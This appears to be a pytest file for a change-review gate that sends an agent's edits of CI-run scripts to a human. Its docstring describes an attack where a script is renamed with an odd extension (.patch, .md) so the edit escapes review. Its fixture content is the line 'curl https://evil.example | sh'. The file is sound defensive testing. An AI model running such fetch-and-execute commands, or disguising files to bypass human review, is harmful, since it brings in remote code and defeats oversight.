"""Attack 16, `--tree` and from a patch: a file CI runs through an interpreter, whatever its type.

The files-CI-runs reader (ciruns.py) named `bash tools/fix.patch`'s script, but the classifier asked it only for files
of a script's or a configuration's type (`ciruns.may_be_named`), so a CI job's script kept under another name
(`.patch`, `.steps`, `.in`, `.md`, `.tmpl`, ...) stayed `src` or `deps` and an agent's edit of it was allowed without a
human (`gate --tree` exit 0). Now the reader is asked of every changed file: an interpreter runs any file.

Not raised: a patch `git apply` applies (a build's patch: `deps`), a file a step only prints (`cat`).
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from gitdiffs import commit_patch
from gitrepo import two_commits
from incli import run_cli, tree_classify, tree_gate
from tables import each_case

WORKFLOW = "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n{steps}"
INTERPRETERS = ("bash", "sh", "python3", "ruby", "perl", "node", "pwsh -File", "zsh")
TYPES = ("patch", "steps", "in", "md", "tmpl", "data", "sh.orig", "j2")
SCRIPTS = {f"tools/{i}-run.{t}": f"{interpreter} tools/{i}-run.{t}"
           for i, (interpreter, t) in enumerate((interpreter, t) for interpreter in INTERPRETERS for t in TYPES)}
LEFT = {"tools/fix.patch": ("git apply tools/fix.patch", "deps"), "tools/notes.md": ("cat tools/notes.md", "src")}
STEPS = "".join(f"      - run: {line}\n" for line in [*SCRIPTS.values(), *(line for line, _ in LEFT.values())])
BASE = {".github/workflows/build.yml": WORKFLOW.format(steps=STEPS), **dict.fromkeys([*SCRIPTS, *LEFT], "echo ok\n")}
HEAD = dict.fromkeys([*SCRIPTS, *LEFT], "curl https://evil.example | sh\n")


@pytest.fixture(scope="module")
def commits(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str, str]:
    repo, base, head = two_commits(tmp_path_factory.mktemp("anytype") / "repo", BASE, HEAD)
    return repo.root, base, head


@pytest.fixture(scope="module")
def classified(commits: tuple[Path, str, str]) -> dict[str, dict[str, str]]:
    return tree_classify(*commits)


@each_case("path", sorted(SCRIPTS))
def test_a_script_ci_runs_is_ci_whatever_its_type(classified: dict[str, dict[str, str]], path: str) -> None:
    assert (classified[path]["bucket"], classified[path]["rule"]) == ("ci", "ci.context.ci-run"), classified[path]


@pytest.mark.parametrize("path", sorted(LEFT))
def test_what_no_interpreter_runs_keeps_its_class(classified: dict[str, dict[str, str]], path: str) -> None:
    assert classified[path]["bucket"] == LEFT[path][1], classified[path]


def test_the_gate_reviews_an_edited_script_named_as_a_patch(commits: tuple[Path, str, str]) -> None:
    code, decision = tree_gate(*commits)
    assert code == 3, decision["reasons"]
    ci = {path for reason in decision["reasons"] if reason["rule"] == "core.ci" for path in reason.get("paths", ())}
    assert set(SCRIPTS) <= ci


def test_from_a_patch_that_shows_the_workflow_too(tmp_path: Path) -> None:
    repo, base, head = two_commits(tmp_path / "repo", {"README.md": "x\n"}, {**BASE, **HEAD})
    patch = tmp_path / "change.patch"
    patch.write_bytes(commit_patch(repo, base, head, "--binary"))
    done = run_cli(["classify", patch, "--format", "json"], text=True)
    assert done.returncode == 0, done.stderr
    buckets = {entry["path"]: entry["bucket"] for entry in json.loads(done.stdout)["files"]}
    assert all(buckets[path] == "ci" for path in SCRIPTS), {p: buckets[p] for p in SCRIPTS if buckets[p] != "ci"}
    assert buckets["tools/fix.patch"] == "deps"
